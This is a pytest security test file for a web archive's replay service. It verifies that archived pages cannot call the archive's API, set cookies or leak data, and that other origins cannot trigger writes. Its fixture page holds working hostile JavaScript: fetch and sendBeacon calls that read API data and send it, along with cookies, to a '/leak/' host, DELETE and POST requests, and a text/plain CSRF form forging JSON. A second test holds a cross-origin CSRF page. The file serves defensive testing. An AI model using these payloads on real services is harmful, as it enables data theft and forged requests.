"""Archived pages cannot act on the archive's behalf: a page whose scripts, cookies,
attributes and forms attack the archive's own API, replayed through a real ``serve`` (no
token, the loopback default) in headless Chromium, in every view, with replay on its own
origin and on the API's. Afterwards the API's state is as before, the service saw no API
request from the browser, no cookie was set, and nothing reached another host. A page of
another local origin cannot make the service write either (a form post, a ``ping``), nor
can a client that sends no JSON."""

from __future__ import annotations

import re
from typing import Any

import httpx
import lxml.html
import pytest

from archive.archiver import Archiver
from archive.catalog import Catalog
from archive.config import ArchiveSettings
from archive.rewrite import ArchiveUrls, Rewriter
from scheduler.demo.server import DemoSite
from tests.support.browser import chromium_page
from tests.support.pages import LocalPages
from tests.support.replay_archive import SITE, T2, ts_datetime
from tests.support.service import RunningService
from tests.support.warc import ClockedWriter, exchange

pytestmark = pytest.mark.slow

HOSTILE = f"{SITE}/hostile"
VIEWS = ("", "id_", "if_", "text_")  # the page, as captured, as a frame, its text


def hostile_page(out: str) -> bytes:
    """Everything here would act on the archive's API or reach ``out`` if it could."""
    return f"""<!DOCTYPE html><html><head><title>Hostile</title>
<meta http-equiv="set-cookie" content="metacookie=1; path=/">
<script>
document.cookie = "scriptcookie=1; path=/";
fetch("/api/v1/sites").then(r => r.text()).then(t =>
    {{ new Image().src = "{out}/leak/api?" + encodeURIComponent(t); }});
fetch("/api/v1/sites/gazette", {{method: "DELETE"}});
fetch("/api/v1/crawls", {{method: "POST", headers: {{"Content-Type": "application/json"}},
                          body: JSON.stringify({{urls: ["{out}/leak/crawl"]}})}});
navigator.sendBeacon("/api/v1/sites/gazette/crawl", "{{}}");
navigator.sendBeacon("{out}/leak/beacon", document.cookie);
</script></head><body>
<p id="text">Hostile words</p>
<a id="ping" href="#clicked" ping="/api/v1/sites/gazette/crawl {out}/leak/ping">click me</a>
<form id="form" method="post" action="/api/v1/sites/gazette/crawl" enctype="text/plain">
  <input name='{{"a":"' value='"}}'><button id="submit">send</button></form>
<button id="formaction" form="form" formaction="/api/v1/crawls">send elsewhere</button>
<iframe srcdoc="<script>fetch('/api/v1/sites/gazette', {{method: 'DELETE'}})</script>"></iframe>
<img src="{out}/leak/img.png">
</body></html>""".encode()


def archive_hostile_page(service: RunningService, out: str) -> None:
    config = ArchiveSettings(data_dir=service.data_dir)
    catalog = Catalog(config.database_url)
    archiver = Archiver(catalog, config.open_storage(),
                        ClockedWriter(config.spool_dir, at=ts_datetime(T2)))
    response = archiver.archive(exchange(HOSTILE, hostile_page(out), headers=[
        ("Content-Type", "text/html; charset=utf-8"),
        ("Set-Cookie", "archivedcookie=1; Path=/"), ("Clear-Site-Data", '"*"')]))
    archiver.annotate(response, {}, article={"url": HOSTILE, "title": "Hostile",
                                             "text": "Hostile words", "word_count": 2})
    archiver.close()
    catalog.dispose()


def api_state(service: RunningService) -> tuple[list[str], list[int]]:
    sites = [s["name"] for s in service.client.get("/api/v1/sites").json()]
    return sites, [job["id"] for job in service.jobs()]


def api_requests(log: str) -> list[str]:
    """API requests in a slice of the service's access log."""
    return re.findall(r'"[A-Z]+ (/api/[^ ]*) HTTP', log)


@pytest.mark.parametrize("replay_origin", [True, False], ids=["own-origin", "api-origin"])
def test_no_view_of_a_hostile_page_can_act_for_it(service_factory: Any, demo_site: DemoSite,
                                                  replay_origin: bool) -> None:
    service = service_factory(start=False, replay_origin=replay_origin)
    archive_hostile_page(service, demo_site.url)
    service.start()
    added = service.client.post("/api/v1/sites", json={
        "name": "gazette", "start_urls": [demo_site.url + "/"]})
    assert added.status_code == 201, added.text
    before = api_state(service)
    demo_site.requests.clear()
    log_start = len(service.log())
    with chromium_page() as (page, _errors):
        seen: list[str] = []
        blocked: dict[str, str | None] = {}
        page.on("request", lambda request: seen.append(request.url))
        page.on("requestfailed", lambda r: blocked.update({r.url: r.failure}))
        for view in VIEWS:
            response = page.goto(f"{service.url}/web/{T2}{view}/{HOSTILE}")
            assert response is not None and response.status == 200, view
            assert page.url.startswith(f"{service.replay_url}/web/{T2}{view}/")
            page.wait_for_load_state("networkidle")
            if view in ("", "id_", "if_"):
                assert page.text_content("#text") == "Hostile words"
                for button in ("#ping", "#submit", "#formaction"):
                    page.click(button, timeout=5000)
                    page.wait_for_load_state("networkidle")
                page.goto("about:blank")
        cookies = page.context.cookies()
    browser_log = service.log()[log_start:]
    assert api_requests(browser_log) == [], browser_log
    assert api_state(service) == before
    assert cookies == []
    assert not [p for p in demo_site.requests.paths() if p.startswith("/leak/")]
    # what the raw view names outside (unrewritten, as captured) the policy stopped
    outside = {url for url in seen if url.startswith(demo_site.url)}
    assert {url: blocked.get(url) for url in outside} == dict.fromkeys(outside, "csp")


def test_another_origin_cannot_make_the_service_write(service: RunningService,
                                                      demo_site: DemoSite) -> None:
    added = service.client.post("/api/v1/sites", json={
        "name": "gazette", "start_urls": [demo_site.url + "/"]})
    assert added.status_code == 201
    target = f"{service.url}/api/v1/sites/gazette/crawl"
    attack = f"""<html><body>
<a id="ping" href="#x" ping="{target}">a link</a>
<form id="form" method="post" action="{target}" enctype="text/plain">
  <input name='{{"a":"' value='"}}'><button id="submit">go</button></form>
</body></html>"""
    with LocalPages({"/": attack}) as other, chromium_page() as (page, _errors):
        statuses: dict[str, int] = {}
        page.on("response", lambda r: statuses.update({r.url: r.status}))
        page.goto(other.url + "/")
        page.click("#ping")
        page.wait_for_load_state("networkidle")
        page.click("#submit")
        page.wait_for_load_state("networkidle")
    assert statuses.get(target) == 403  # the form post was refused
    assert service.jobs() == []

    # and from clients: another origin, a cross-site fetch, a body that is not JSON
    refused = {
        "origin": httpx.post(target, json={}, headers={"Origin": other.url}),
        "sec-fetch-site": httpx.post(target, json={}, headers={"Sec-Fetch-Site": "cross-site"}),
        "null origin": httpx.post(target, json={}, headers={"Origin": "null"}),
        "text/plain": httpx.post(target, content=b"{}", headers={"Content-Type": "text/plain"}),
        "no body type": httpx.post(target),
    }
    assert {name: r.status_code for name, r in refused.items()} == {
        "origin": 403, "sec-fetch-site": 403, "null origin": 403, "text/plain": 415,
        "no body type": 415}
    assert "may not write here" in refused["origin"].json()["error"]
    assert "Content-Type: application/json" in refused["text/plain"].json()["error"]
    assert service.jobs() == []
    same_origin = httpx.post(target, json={}, headers={"Origin": service.url,
                                                       "Sec-Fetch-Site": "same-origin"})
    assert same_origin.status_code == 202, same_origin.text


def test_the_rewriter_leaves_no_attribute_that_acts_outside_the_archive() -> None:
    page = b"""<!DOCTYPE html><html manifest="/app.appcache"><head>
<meta http-equiv="Set-Cookie" content="meta=1; path=/">
<link rel="stylesheet" href="s.css" integrity="sha384-abc"></head><body>
<a id="a" href="next.html" ping="/track https://tracker.example/p">next</a>
<form action="/search"><button id="b" formaction="/post">go</button>
<input id="i" type="image" src="go.png" formaction="/post"></form>
<img id="m" src="ad.png" attributionsrc="https://ads.example/register">
<svg><use id="u" xlink:href="/sprite.svg#icon"></use></svg>
<iframe id="f" srcdoc="&lt;a href='inner.html' ping='/t'&gt;in&lt;/a&gt;"></iframe>
</body></html>"""
    rewriter = Rewriter(ArchiveUrls("/web/"), T2, f"{SITE}/a/page.html")
    doc = lxml.html.fromstring(rewriter.html(page, "text/html; charset=utf-8"))
    web = f"/web/{T2}"
    assert doc.xpath("//@ping | //@manifest | //@integrity | //@attributionsrc") == []
    assert doc.xpath("//meta[@http-equiv]") == []
    assert doc.get_element_by_id("a").get("href") == f"{web}/{SITE}/a/next.html"
    assert doc.xpath("//form/@action") == [f"{web}/{SITE}/search"]
    assert doc.get_element_by_id("b").get("formaction") == f"{web}/{SITE}/post"
    assert doc.get_element_by_id("i").get("formaction") == f"{web}/{SITE}/post"  # a page
    assert doc.get_element_by_id("i").get("src") == f"{web}im_/{SITE}/a/go.png"
    assert doc.get_element_by_id("u").get("xlink:href") == f"{web}im_/{SITE}/sprite.svg#icon"
    inner = lxml.html.fromstring(doc.get_element_by_id("f").get("srcdoc"))
    assert inner.xpath("//a/@href") == [f"{web}/{SITE}/a/inner.html"]
    assert inner.xpath("//@ping") == []
